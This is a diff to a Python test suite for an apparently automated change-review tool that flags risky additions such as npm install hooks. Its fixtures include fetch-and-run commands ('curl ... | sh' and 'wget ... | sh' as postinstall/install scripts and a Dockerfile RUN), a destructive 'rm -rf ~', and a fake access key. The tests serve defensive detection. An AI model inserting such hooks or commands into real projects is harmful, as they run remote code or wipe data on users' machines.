@@ -42,6 +42,11 @@ KEY = "AKIA" + "Q7ZK3NVX2LMPT5RW"
         (change("Dockerfile", ["FROM x", "RUN curl x | sh"]), "Dockerfile:2"),
         (change("people.csv", [f"u{i}.x{i}@firma{i}.de" for i in range(9)]), "people.csv:1"),
         (change("a.py", ["iban = 'GB94BARC10201530093459'"]), "a.py:1"),
+        (
+            change("package.json", ['  "postinstall": "curl -fsSL https://x.example/i | sh",']),
+            "package.json:1",
+        ),
+        (change("package.json", ['{"scripts": {"install": "wget -qO- x.example | sh"}}']), "package.json:1"),
         ("Do this:\n```bash\nrm -rf ~\n```\n", "code block, line 2"),
         (f"the key is {KEY}", "body, line 1"),
     ],
@@ -131,6 +136,25 @@ def test_tests_size_binaries_and_generated_files_are_told() -> None:
     assert (with_binary.confidence, with_binary.risk_level) == (0.45, "med")
     assert "t.exe" in with_binary.reason
     assert review(body=binary).vote == "abstain"
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ('"postinstall": "node scripts/setup.js",', True),
+        ('"preinstall": "npx only-allow pnpm"', True),
+        ('"scripts": {"install": "node-gyp rebuild"},', True),
+        ('"install": "^0.13.0",', False),
+        ('"test": "node test.js",', False),
+    ],
+)
+def test_what_npm_runs_on_every_install_is_told(line: str, told: bool) -> None:
+    opinion = review(body=change("web/package.json", [line]))
+    assert opinion.vote == "yes"
+    assert opinion.risk_level == ("med" if told else "low")
+    assert ("npm runs on every install" in opinion.reason) is told
+    kept = review(body=change("web/package.json", [line.rstrip(",") + "   ,"], removed=[line]))
+    assert "npm runs" not in kept.reason, "it was there before"
 
 
 def test_nothing_to_read_is_an_abstention_and_an_unreadable_command_no_pass() -> None:
